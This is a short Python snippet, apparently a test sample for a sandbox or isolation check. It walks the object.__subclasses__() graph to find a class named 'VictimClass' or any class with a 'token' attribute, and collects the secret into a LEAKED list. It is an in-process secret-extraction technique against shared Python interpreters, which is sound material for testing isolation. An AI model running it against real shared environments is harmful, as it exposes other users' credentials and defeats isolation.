# Walks object.__subclasses__() transitively looking for the victim's VictimClass and reads its secret.
LEAKED = []
seen, stack = set(), [object]
while stack and len(seen) < 50000:
    c = stack.pop()
    try: subs = type.__subclasses__(c)
    except Exception: continue
    for s in subs:
        if id(s) in seen: continue
        seen.add(id(s)); stack.append(s)
        if s.__name__ == "VictimClass" or "token" in getattr(s, "__dict__", {}):
            LEAKED.append(s); LEAKED.append(s.__dict__.get("token"))
print(len(seen) > 0)
